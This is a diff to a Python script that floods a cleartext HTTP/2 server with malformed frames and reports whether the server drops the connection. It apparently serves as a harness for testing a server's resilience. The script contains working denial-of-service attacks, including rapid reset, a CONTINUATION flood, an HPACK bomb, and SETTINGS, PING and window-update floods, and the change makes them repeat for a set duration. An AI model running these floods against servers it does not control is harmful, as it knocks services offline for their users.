@@ -1,8 +1,11 @@
 """Attacks a server that takes HTTP/2 without TLS, with frames that no client would send. Called
-with host, port and the name of an attack; prints one JSON object: whether the server ended the
-connection, after how many seconds and how many frames, and what it said at the end."""
+with host, port, the name of an attack, and for how many seconds to come back with it. Says "ready"
+and begins when it is told a line; prints one JSON object: how many connections it had, whether the
+server ended each of them, after how many seconds at most, with how many frames in all, and what the
+last was told at its end."""
 
 import json
+import os
 import select
 import socket
 import sys
@@ -13,7 +16,7 @@ from hyperframe.frame import (
     SettingsFrame, WindowUpdateFrame,
 )
 
-HOST, PORT, ATTACK = sys.argv[1], int(sys.argv[2]), sys.argv[3]
+HOST, PORT, ATTACK, LASTING = sys.argv[1], int(sys.argv[2]), sys.argv[3], float(sys.argv[4])
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 # What is sent when nothing ends the connection.
 FRAMES = 100_000
@@ -90,16 +93,14 @@ class Peer:
             if not self.send(b"".join(piece(n + i) for i in range(batch)), batch, reading):
                 break
 
-    def report(self):
-        # What is on its way still comes.
+    def finish(self):
+        """Waits for what is on its way; returns what came of this connection."""
         deadline = time.monotonic() + 1
         while not self.ended and time.monotonic() < deadline:
             self.look(0.1)
         seconds = time.monotonic() - self.start
-        print(json.dumps({
-            "ended": self.ended, "seconds": round(seconds, 3), "frames": self.frames,
-            "error": self.error(),
-        }))
+        self.socket.close()
+        return {"ended": self.ended, "seconds": seconds, "frames": self.frames, "error": self.error()}
 
     def error(self):
         """The error code of the GOAWAY, if one came at the end."""
@@ -126,7 +127,7 @@ def rapid_reset(batch):
         return headers(stream, block, "END_HEADERS", "END_STREAM") + reset
 
     peer.flood(pair, batch)
-    peer.report()
+    return peer.finish()
 
 
 def continuation_flood():
@@ -134,21 +135,21 @@ def continuation_flood():
     peer.send(headers(1, request(b"/livez"), "END_STREAM"), 1)
     piece = ContinuationFrame(1, literal(b"x-filler", b"y" * 100) * 140).serialize()
     peer.flood(lambda _: piece, 1)
-    peer.report()
+    return peer.finish()
 
 
 def settings_flood():
     peer = Peer()
     piece = SettingsFrame(0, settings={4: 65_535}).serialize()
     peer.flood(lambda _: piece, reading=False)
-    peer.report()
+    return peer.finish()
 
 
 def ping_flood():
     peer = Peer()
     piece = PingFrame(0, opaque_data=b"12345678").serialize()
     peer.flood(lambda _: piece, reading=False)
-    peer.report()
+    return peer.finish()
 
 
 def empty_data_flood():
@@ -156,7 +157,7 @@ def empty_data_flood():
     peer.send(headers(1, request(b"/v1/publish", 0x83), "END_HEADERS"), 1)
     piece = DataFrame(1, b"").serialize()
     peer.flood(lambda _: piece)
-    peer.report()
+    return peer.finish()
 
 
 def hpack_bomb():
@@ -171,7 +172,7 @@ def hpack_bomb():
     for n in range(1, 1_000):
         if not peer.send(headers(2 * n + 1, block, "END_HEADERS", "END_STREAM"), 1):
             break
-    peer.report()
+    return peer.finish()
 
 
 def zero_window():
@@ -181,7 +182,7 @@ def zero_window():
         path = b"/v1/sse?channel=busy" if n % 2 else b"/v1/channels/busy/history?limit=100"
         block = request(path)
         peer.send(headers(2 * n + 1, block, "END_HEADERS", "END_STREAM"), 1)
-    peer.report()
+    return peer.finish()
 
 
 def windows_by_the_byte():
@@ -191,10 +192,10 @@ def windows_by_the_byte():
     peer.send(headers(1, block, "END_HEADERS", "END_STREAM"), 1)
     update = WindowUpdateFrame(1, window_increment=1).serialize()
     peer.flood(lambda _: update)
-    peer.report()
+    return peer.finish()
 
 
-{
+ATTACKS = {
     "rapid_reset": lambda: rapid_reset(1_000),
     "rapid_reset_one_by_one": lambda: rapid_reset(1),
     "continuation_flood": continuation_flood,
@@ -204,4 +205,25 @@ def windows_by_the_byte():
     "hpack_bomb": hpack_bomb,
     "zero_window": zero_window,
     "windows_by_the_byte": windows_by_the_byte,
-}[ATTACK]()
+}
+
+
+def main():
+    # An attacker computes on a machine of its own, and so takes no time from those it disturbs.
+    os.nice(19)
+    print("ready", flush=True)
+    sys.stdin.readline()
+    end = time.monotonic() + LASTING
+    outcomes = [ATTACKS[ATTACK]()]
+    while time.monotonic() < end:
+        outcomes.append(ATTACKS[ATTACK]())
+    print(json.dumps({
+        "connections": len(outcomes),
+        "ended": all(outcome["ended"] for outcome in outcomes),
+        "seconds": round(max(outcome["seconds"] for outcome in outcomes), 3),
+        "frames": sum(outcome["frames"] for outcome in outcomes),
+        "error": outcomes[-1]["error"],
+    }))
+
+
+main()
